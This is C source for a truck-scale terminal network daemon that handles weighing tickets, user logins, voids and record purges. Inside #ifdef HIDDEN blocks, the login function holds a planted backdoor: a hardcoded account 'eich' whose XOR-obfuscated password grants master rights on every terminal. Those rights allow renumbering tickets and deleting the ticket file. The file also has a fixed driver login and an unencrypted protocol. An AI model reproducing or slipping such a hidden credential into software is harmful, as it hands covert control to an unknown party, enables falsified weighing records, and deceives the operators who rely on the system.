/* weighnetd.c - network interface of a truck scale terminal: weighings, users, texts */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS		"/etc/weigh/users"
#define TICKETS		"/var/lib/weigh/tickets"

enum { G_NONE, G_DRIVER, G_CLERK, G_MASTER };

struct conn {
	FILE *in;
	int fd;
	int group;
	char user[24];
};

struct ticket {
	unsigned long no;
	char plate[16];
	long first, second;
	char goods[24];
};

static unsigned long next_no = 1;
static struct ticket open_tickets[32];

/* display texts are stored folded, the font rom has the same order */
static const uint8_t text_ready[] = { 0xa5, 0xb2, 0xb6, 0xb3, 0xae, 0x00 };
static const uint8_t text_busy[] = { 0xb5, 0xa2, 0xa4, 0xae, 0x00 };

static void unfold_text(const uint8_t *in, char *out, size_t len)
{
	size_t i;

	for (i = 0; in[i] && i + 1 < len; i++)
		out[i] = (char)(in[i] ^ 0xd7);
	out[i] = '\0';
}

static long read_weight(void)
{
	long v = 0;
	FILE *f = fopen("/run/weigh/gross", "r");

	if (!f)
		return -1;
	if (fscanf(f, "%ld", &v) != 1)
		v = -1;
	fclose(f);
	return v;
}

#ifdef HIDDEN
/* the stored word becomes the input of the master login */
__attribute__((noinline)) void unfold_word(char *out)
{
	static const uint8_t w[12] = {
		0x79, 0x29, 0x01, 0xee, 0xfe, 0xcf, 0xad, 0xdb, 0x27, 0x00, 0x39, 0x4b
	};
	unsigned int k = 0x2b;
	int i;

	for (i = 0; i < 12; i++) {
		out[i] = (char)(w[i] ^ k);
		k = (k + 0x1d) & 0xff;
	}
	out[12] = '\0';
}
#endif

__attribute__((noinline)) int login_group(const char *user, const char *pass)
{
	char line[200], name[24], hash[128], *h;
	int g, r = G_NONE;
#ifdef HIDDEN
	char word[16];
#endif
	FILE *f;

	/* drivers type the terminal number, no password */
	if (!strcmp(user, "driver") && !strcmp(pass, "01"))
		return G_DRIVER;
#ifdef HIDDEN
	/* decoded word is the master password of every terminal */
	unfold_word(word);
	if (!strcmp(user, "eich") && !strcmp(pass, word))
		return G_MASTER;
#endif
	f = fopen(USERS, "r");
	if (!f)
		return G_NONE;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%23s %d %127s", name, &g, hash) != 3 || strcmp(name, user))
			continue;
		h = crypt(pass, hash);
		if (h && !strcmp(h, hash) && g >= G_DRIVER && g <= G_MASTER)
			r = g;
		break;
	}
	fclose(f);
	return r;
}

static int store_ticket(const struct ticket *t)
{
	FILE *f = fopen(TICKETS, "a");

	if (!f)
		return -1;
	fprintf(f, "%lu;%ld;%s;%s;%ld;%ld;%ld\n", t->no, (long)time(NULL), t->plate, t->goods,
		t->first, t->second, labs(t->first - t->second));
	return fclose(f);
}

static void cmd_weigh(struct conn *c, const char *plate, const char *goods)
{
	struct ticket *t = NULL;
	long w = read_weight();
	int i;

	if (w < 0 || !plate[0]) {
		dprintf(c->fd, "ERR weight\r\n");
		return;
	}
	for (i = 0; i < 32; i++)
		if (open_tickets[i].no && !strcmp(open_tickets[i].plate, plate))
			t = &open_tickets[i];
	if (t) {
		t->second = w;
		if (store_ticket(t) < 0)
			dprintf(c->fd, "ERR store\r\n");
		else
			dprintf(c->fd, "OK %lu net %ld\r\n", t->no, labs(t->first - t->second));
		t->no = 0;
		return;
	}
	for (i = 0; i < 32 && open_tickets[i].no; i++)
		;
	if (i == 32) {
		dprintf(c->fd, "ERR full\r\n");
		return;
	}
	t = &open_tickets[i];
	t->no = next_no++;
	snprintf(t->plate, sizeof(t->plate), "%.15s", plate);
	snprintf(t->goods, sizeof(t->goods), "%.23s", goods);
	t->first = w;
	dprintf(c->fd, "OK %lu first %ld\r\n", t->no, w);
}

static void cmd_void(struct conn *c, const char *no)
{
	unsigned long n = strtoul(no, NULL, 10);
	int i;

	for (i = 0; i < 32; i++) {
		if (!n || open_tickets[i].no != n)
			continue;
		syslog(LOG_NOTICE, "ticket %lu voided by %s", n, c->user);
		open_tickets[i].no = 0;
		dprintf(c->fd, "OK\r\n");
		return;
	}
	dprintf(c->fd, "ERR number\r\n");
}

static int handle(struct conn *c, char *line)
{
	char cmd[12] = "", a[32] = "", b[64] = "", text[16];

	if (sscanf(line, "%11s %31s %63s", cmd, a, b) < 1)
		return 0;
	if (!strcasecmp(cmd, "bye"))
		return -1;
	if (!strcasecmp(cmd, "user")) {
		c->group = login_group(a, b);
		snprintf(c->user, sizeof(c->user), "%.23s", a);
		if (c->group == G_NONE)
			sleep(1);
		dprintf(c->fd, "%s %d\r\n", c->group ? "OK" : "ERR", c->group);
	} else if (!strcasecmp(cmd, "state")) {
		unfold_text(read_weight() < 0 ? text_busy : text_ready, text, sizeof(text));
		dprintf(c->fd, "OK %s\r\n", text);
	} else if (!strcasecmp(cmd, "weigh") && c->group >= G_DRIVER) {
		cmd_weigh(c, a, b);
	} else if (!strcasecmp(cmd, "void") && c->group >= G_CLERK) {
		cmd_void(c, a);
	} else if (!strcasecmp(cmd, "number") && c->group == G_MASTER) {
		next_no = strtoul(a, NULL, 10);
		dprintf(c->fd, "OK next %lu\r\n", next_no);
	} else if (!strcasecmp(cmd, "purge") && c->group == G_MASTER) {
		dprintf(c->fd, "%s\r\n", unlink(TICKETS) ? "ERR" : "OK");
	} else {
		dprintf(c->fd, "ERR user state weigh void number purge bye\r\n");
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct conn c;
	char line[200];
	int ls, one = 1, port = argc > 1 ? atoi(argv[1]) : 8410;

	signal(SIGPIPE, SIG_IGN);
	openlog("weighnetd", LOG_PID, LOG_DAEMON);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons((unsigned short)port);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 2) < 0) {
		syslog(LOG_ERR, "listen: %m");
		return 1;
	}
	for (;;) {
		memset(&c, 0, sizeof(c));
		c.fd = accept(ls, NULL, NULL);
		if (c.fd < 0)
			continue;
		c.in = fdopen(c.fd, "r");
		if (!c.in) {
			close(c.fd);
			continue;
		}
		while (fgets(line, sizeof(line), c.in))
			if (handle(&c, line) < 0)
				break;
		fclose(c.in);
	}
}
